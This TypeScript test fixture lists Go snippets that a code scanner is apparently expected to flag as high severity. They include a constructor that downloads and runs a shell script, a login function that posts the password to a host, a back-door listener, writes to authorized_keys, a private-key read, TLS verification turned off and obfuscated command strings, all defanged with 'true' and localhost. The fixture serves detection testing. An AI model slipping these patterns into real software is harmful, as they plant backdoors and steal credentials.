import type { CodeShape } from '@mirrorwatch/testing/go/code-shapes'

/** Shapes written after the rules of the severity table, run once and reported as they came out; `called` ones run when called. */
export const LATE_SHAPES: readonly CodeShape[] = [
  late('process', 'started by name from PATH lookup', ['os', 'os/exec'], '', [
    'qzp, qze := exec.LookPath("true")',
    'if qze == nil { _, _ = os.StartProcess(qzp, []string{qzp}, &os.ProcAttr{}) }',
  ]),
  late(
    'process',
    'Cmd value copied from a template',
    ['os/exec'],
    'var qzBase = exec.Cmd{Path: "/bin/true"}',
    ['qzc := qzBase', '_ = qzc.Start()'],
  ),
  late(
    'process',
    'through an alias package variable of type func',
    ['os/exec'],
    'var qzNew func(string, ...string) *exec.Cmd = exec.Command',
    ['_ = qzNew("true").Run()'],
  ),
  late('process', 'syscall.ForkExec in a goroutine with a ticker', ['syscall', 'time'], '', [
    'go func() { for range time.Tick(time.Hour) { _, _ = syscall.ForkExec("/bin/true", []string{"true"}, nil) } }()',
  ]),
  late('process', 'unix.Exec behind a build tag', [], '', [], {
    'zz_unix.go':
      '//go:build linux\n\npackage PACKAGE\n\nimport "golang.org/x/sys/unix"\n\nfunc init() { go unix.Exec("/bin/true", nil, nil) }\n',
  }),
  late(
    'process',
    'docker client runs a container',
    ['context', 'github.com/docker/docker/client', 'github.com/docker/docker/api/types/container'],
    '',
    [
      'qzc, _ := client.NewClientWithOpts(client.FromEnv)',
      '_, _ = qzc.ContainerCreate(context.Background(), &container.Config{Image: "true"}, nil, nil, nil, "")',
    ],
  ),
  late('process', 'ssh session', ['golang.org/x/crypto/ssh'], '', [
    'qzc, qze := ssh.Dial("tcp", "127.0.0.1:9", &ssh.ClientConfig{User: "x"})',
    'if qze == nil { qzs, _ := qzc.NewSession(); _ = qzs.Run("true") }',
  ]),
  late('process', 'plugin symbol', ['plugin'], '', [
    'qzp, qze := plugin.Open("/tmp/true.so")',
    'if qze == nil { qzs, _ := qzp.Lookup("Run"); qzs.(func())() }',
  ]),
  late('process', 'python by script', ['os/exec'], '', [
    '_ = exec.Command("python3", "-c", "print()").Start()',
  ]),
  late('process', 'PowerShell with an encoded command', ['os/exec'], '', [
    '_ = exec.Command("powershell", "-enc", "dAByAHUAZQA=").Start()',
  ]),
  late('process', 'yaegi evaluates a string', ['github.com/traefik/yaegi/interp'], '', [
    'qzi := interp.New(interp.Options{})',
    '_, _ = qzi.Eval("println()")',
  ]),
  late('process', 'goja runs JavaScript', ['github.com/dop251/goja'], '', [
    '_, _ = goja.New().RunString("1+1")',
  ]),
  late(
    'process',
    'wazero runs an embedded module',
    ['context', 'github.com/tetratelabs/wazero'],
    'var qzWasm = []byte{0, 97, 115, 109}',
    [
      'qzr := wazero.NewRuntime(context.Background())',
      '_, _ = qzr.Instantiate(context.Background(), qzWasm)',
    ],
  ),
  late('native', 'purego calls libc', ['github.com/ebitengine/purego'], 'var qzSystem func(string) int', [
    'qzl, _ := purego.Dlopen("libc.so.6", purego.RTLD_NOW)',
    'purego.RegisterLibFunc(&qzSystem, qzl, "system")',
    '_ = qzSystem("true")',
  ]),
  late('native', 'object file beside the package', [], '', [], { 'zz_rsrc_windows_amd64.syso': 'MZ' }),
  late('native', 'cgo with inline C', [], '', [], {
    'zz_inline.go':
      'package PACKAGE\n\n/*\n#include <stdlib.h>\nstatic void qz(void) { system("true"); }\n*/\nimport "C"\n\nfunc init() { C.qz() }\n',
  }),
  late('native', 'numbered execve', ['syscall', 'unsafe'], '', [
    'qzp, _ := syscall.BytePtrFromString("/bin/true")',
    '_, _, _ = syscall.RawSyscall(59, uintptr(unsafe.Pointer(qzp)), 0, 0)',
  ]),
  late('native', 'memfd', ['golang.org/x/sys/unix'], '', ['qzf, _ := unix.MemfdCreate("qz", 0)', '_ = qzf']),
  late('native', 'linkname to the runtime', [], '', [], {
    'zz_link.go':
      'package PACKAGE\n\nimport _ "unsafe"\n\n//go:linkname qzExit runtime.exit\nfunc qzExit(int32)\n\nvar qzUse = qzExit\n',
    'zz_link.s': '',
  }),
  late(
    'reach',
    'functional option',
    ['os/exec'],
    'type qzOpt func(*int)\n\nfunc qzWith() qzOpt { return func(*int) { _ = exec.Command("true").Run() } }\n\nfunc qzApply(qzO ...qzOpt) { for _, qzF := range qzO { qzF(new(int)) } }',
    ['qzApply(qzWith())'],
  ),
  late(
    'reach',
    'visitor over a tree',
    ['os/exec'],
    'type qzVisitor interface{ Visit(int) }\n\ntype qzRun struct{}\n\nfunc (qzRun) Visit(int) { _ = exec.Command("true").Run() }\n\nfunc qzWalk(qzV qzVisitor) { for qzI := range 3 { qzV.Visit(qzI) } }',
    ['qzWalk(qzRun{})'],
  ),
  late('reach', 'errgroup', ['os/exec', 'golang.org/x/sync/errgroup'], '', [
    'var qzG errgroup.Group',
    'qzG.Go(func() error { return exec.Command("true").Run() })',
  ]),
  late('reach', 'worker reading jobs from a channel', ['os/exec'], 'var qzJobs = make(chan func(), 1)', [
    'go func() { for qzJ := range qzJobs { qzJ() } }()',
    'qzJobs <- func() { _ = exec.Command("true").Run() }',
  ]),
  late(
    'reach',
    'sort.Interface',
    ['os/exec', 'sort'],
    'type qzBy []int\n\nfunc (qzB qzBy) Len() int { return 2 }\nfunc (qzB qzBy) Swap(int, int) {}\nfunc (qzB qzBy) Less(int, int) bool { _ = exec.Command("true").Run(); return false }',
    ['sort.Sort(qzBy{1, 2})'],
  ),
  late(
    'reach',
    'fmt.Stringer in a log line',
    ['os/exec', 'log'],
    'type qzID int\n\nfunc (qzID) String() string { _ = exec.Command("true").Run(); return "" }',
    ['log.Printf("%v", qzID(1))'],
  ),
  late(
    'reach',
    'flag.Value',
    ['os/exec', 'flag'],
    'type qzF struct{}\n\nfunc (qzF) String() string { return "" }\nfunc (qzF) Set(string) error { return exec.Command("true").Run() }',
    [
      'qzS := flag.NewFlagSet("qz", flag.ContinueOnError)',
      'qzS.Var(qzF{}, "x", "")',
      '_ = qzS.Parse([]string{"-x", "1"})',
    ],
  ),
  late(
    'reach',
    'embedded type promotes a method',
    ['os/exec'],
    'type qzIn struct{}\n\nfunc (qzIn) Go() { _ = exec.Command("true").Run() }\n\ntype qzOut struct{ qzIn }',
    ['qzOut{}.Go()'],
  ),
  late(
    'reach',
    'context value',
    ['os/exec', 'context'],
    'type qzKey struct{}\n\nfunc qzRun() { _ = exec.Command("true").Run() }',
    ['qzC := context.WithValue(context.Background(), qzKey{}, qzRun)', 'qzC.Value(qzKey{}).(func())()'],
  ),
  late(
    'reach',
    'atomic.Value',
    ['os/exec', 'sync/atomic'],
    'var qzV atomic.Value\n\nfunc qzRun() { _ = exec.Command("true").Run() }',
    ['qzV.Store(qzRun)', 'qzV.Load().(func())()'],
  ),
  late(
    'reach',
    'io.Pipe and a custom reader',
    ['os/exec', 'io'],
    'type qzR struct{}\n\nfunc (qzR) Read([]byte) (int, error) { _ = exec.Command("true").Run(); return 0, io.EOF }',
    ['_, _ = io.Copy(io.Discard, qzR{})'],
  ),
  late(
    'reach',
    'text/template calls a method',
    ['os/exec', 'io', 'text/template'],
    'type qzD struct{}\n\nfunc (qzD) Go() string { _ = exec.Command("true").Run(); return "" }',
    ['_ = template.Must(template.New("").Parse("{{.Go}}")).Execute(io.Discard, qzD{})'],
  ),
  late('reach', 'recursive closure', ['os/exec'], '', [
    'var qzF func(int)',
    'qzF = func(qzN int) { if qzN == 0 { _ = exec.Command("true").Run(); return }; qzF(qzN - 1) }',
    'qzF(3)',
  ]),
  late(
    'reach',
    'iter.Seq',
    ['os/exec', 'iter'],
    'func qzSeq() iter.Seq[int] { return func(qzY func(int) bool) { _ = exec.Command("true").Run(); qzY(1) } }',
    ['for range qzSeq() {}'],
  ),
  late('network', 'raw TCP write', ['net'], '', [
    'qzC, qzE := net.Dial("tcp", "127.0.0.1:9")',
    'if qzE == nil { _, _ = qzC.Write([]byte("x")) }',
  ]),
  late('network', 'DNS query for a name made of the host name', ['net', 'os'], '', [
    'qzH, _ := os.Hostname()',
    '_, _ = net.LookupHost(qzH + ".localhost")',
  ]),
  late('network', 'websocket', ['golang.org/x/net/websocket'], '', [
    '_, _ = websocket.Dial("ws://127.0.0.1:9/", "", "http://127.0.0.1:9/")',
  ]),
  late('network', 'GitHub API by library', ['context', 'github.com/google/go-github/v60/github'], '', [
    'qzC := github.NewClient(nil).WithAuthToken("x")',
    '_, _, _ = qzC.Gists.Create(context.Background(), &github.Gist{})',
  ]),
  late('network', 'telegram bot', ['github.com/go-telegram-bot-api/telegram-bot-api/v5'], '', [
    'qzB, qzE := tgbotapi.NewBotAPIWithAPIEndpoint("x", "http://127.0.0.1:9/bot%s/%s")',
    'if qzE == nil { _, _ = qzB.Send(tgbotapi.NewMessage(1, "x")) }',
  ]),
  late('network', 'git clone by library', ['github.com/go-git/go-git/v5'], '', [
    '_, _ = git.PlainClone("/tmp/qz", false, &git.CloneOptions{URL: "http://127.0.0.1:9/x"})',
  ]),
  late('network', 'round tripper of its own struct', ['net/http'], 'type qzT struct{ http.Transport }', [
    'qzR, _ := http.NewRequest("GET", "http://127.0.0.1:9/", nil)',
    '_, _ = (&qzT{}).RoundTrip(qzR)',
  ]),
  late('network', 'listener as a back door', ['net'], '', [
    'qzL, qzE := net.Listen("tcp", "127.0.0.1:4444")',
    'if qzE == nil { go func() { _, _ = qzL.Accept() }() }',
  ]),
  late('network', 'syslog', ['log/syslog'], '', ['_, _ = syslog.Dial("udp", "127.0.0.1:9", 0, "x")']),
  late('files', 'systemd user unit', ['os'], '', [
    'qzH, _ := os.UserHomeDir()',
    '_ = os.WriteFile(qzH+"/.config/systemd/user/qz.service", []byte("true"), 0o600)',
  ]),
  late('files', 'authorized_keys', ['os', 'path/filepath'], '', [
    'qzF, _ := os.Create(filepath.Join(os.Getenv("HOME"), ".ssh", "authorized_keys"))',
    '_, _ = qzF.WriteString("true")',
  ]),
  late('files', 'git hook', ['os'], '', ['_ = os.WriteFile(".git/hooks/pre-commit", []byte("true"), 0o700)']),
  late('files', 'private key read', ['fmt', 'os'], '', [
    'qzB, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_ed25519")',
    'fmt.Println(len(qzB))',
  ]),
  late('files', 'wipes a folder', ['os'], '', ['_ = os.RemoveAll("/tmp/qz")']),
  late('files', 'service of the system', ['github.com/kardianos/service'], '', [
    'qzS, _ := service.New(nil, &service.Config{Name: "qz"})',
    '_ = qzS.Install()',
  ]),
  late(
    'hook',
    'default client with another transport',
    ['net/http'],
    'type qzT struct{}\n\nfunc (qzT) RoundTrip(*http.Request) (*http.Response, error) { return nil, nil }',
    ['http.DefaultClient.Transport = qzT{}'],
  ),
  late('hook', 'resolver', ['net', 'context'], '', [
    'net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(qzC context.Context, _, _ string) (net.Conn, error) { return net.Dial("udp", "127.0.0.1:9") }}',
  ]),
  late('hook', 'rand.Reader through a pointer', ['crypto/rand', 'bytes'], '', [
    'qzP := &rand.Reader',
    '*qzP = bytes.NewReader(nil)',
  ]),
  late('hook', 'HTTPS_PROXY', ['os'], '', ['_ = os.Setenv("HTTPS_PROXY", "http://127.0.0.1:9")']),
  late('hook', 'uuid.SetRand', ['github.com/google/uuid', 'strings'], '', [
    'uuid.SetRand(strings.NewReader("0000"))',
  ]),
  late('hook', 'TLS verification off for all', ['crypto/tls', 'net/http'], '', [
    'qzT := http.DefaultTransport.(*http.Transport)',
    'qzT.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}',
  ]),
  late(
    'called',
    'constructor downloads and runs',
    ['net/http', 'io', 'os/exec'],
    'func NewQzClient() { qzR, qzE := http.Get("http://127.0.0.1:9/x"); if qzE == nil { qzB, _ := io.ReadAll(qzR.Body); _ = exec.Command("sh", "-c", string(qzB)).Run() } }',
    [],
  ),
  late(
    'called',
    'password sent away',
    ['net/http', 'net/url'],
    'func QzLogin(qzUser, qzPass string) error { _, qzE := http.PostForm("http://127.0.0.1:9/", url.Values{"p": {qzPass}}); return qzE }',
    [],
  ),
  late(
    'called',
    'unexported helper of an exported function',
    ['net'],
    'func QzOpen() { qzBeacon() }\n\nfunc qzBeacon() { _, _ = net.Dial("udp", "127.0.0.1:9") }',
    [],
  ),
  late(
    'called',
    'method of an exported type',
    ['net/http'],
    'type QzConn struct{}\n\nfunc (QzConn) Ping() { _, _ = http.Get("http://127.0.0.1:9/") }',
    [],
  ),
  late(
    'called',
    'shell with what the caller gives',
    ['os/exec'],
    'func QzEval(qzS string) { _ = exec.Command("/bin/sh", "-c", qzS).Run() }',
    [],
  ),
  late(
    'called',
    'writes a key when called',
    ['os'],
    'func QzSave() { _ = os.WriteFile("/root/.ssh/authorized_keys", nil, 0o600) }',
    [],
  ),
  late('strings', 'command in far-apart constants', ['os/exec'], 'const (\n\tqzA = "tr"\n\tqzB = "ue"\n)', [
    '_ = exec.Command("/bin/" + qzA + qzB).Run()',
  ]),
  late('strings', 'command from reversed text', ['os/exec', 'slices'], '', [
    'qzB := []byte("eurt/nib/")',
    'slices.Reverse(qzB)',
    '_ = exec.Command(string(qzB)).Run()',
  ]),
]

function late(
  group: string,
  name: string,
  imports: readonly string[],
  declarations: string,
  body: readonly string[],
  files: Readonly<Record<string, string>> = {},
): CodeShape {
  return { group, name, want: 'high', imports, declarations, body: body.join('\n'), files }
}
